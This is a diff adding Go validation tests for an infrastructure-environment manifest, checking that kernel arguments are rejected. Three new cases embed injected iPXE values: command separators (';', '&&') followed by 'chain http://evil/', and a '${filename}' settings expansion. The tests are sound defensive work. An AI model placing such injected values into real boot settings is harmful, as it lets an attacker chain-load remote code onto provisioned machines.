@@ -189,6 +189,18 @@ func TestValidationRejects(t *testing.T) {
 			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: \"a=b c=d\""),
 			want:     []string{"spec.kernelArguments[0].value"},
 		},
+		"kernel argument hiding an iPXE command separator in quotes": {
+			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=\"a ; chain http://evil/\"'"),
+			want:     []string{"spec.kernelArguments[0].value", "iPXE command separators"},
+		},
+		"kernel argument with &&": {
+			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=\"a && chain http://evil/\"'"),
+			want:     []string{"spec.kernelArguments[0].value", "iPXE command separators"},
+		},
+		"kernel argument expanding an iPXE setting": {
+			manifest: infraEnvYAML(ns, "kernelArguments:\n  - value: 'x=${filename}'"),
+			want:     []string{"spec.kernelArguments[0].value", "iPXE settings expansion"},
+		},
 		"unknown kernel argument operation": {
 			manifest: infraEnvYAML(ns, "kernelArguments:\n  - operation: prepend\n    value: a=b"),
 			want:     []string{"spec.kernelArguments[0].operation", "Unsupported value"},
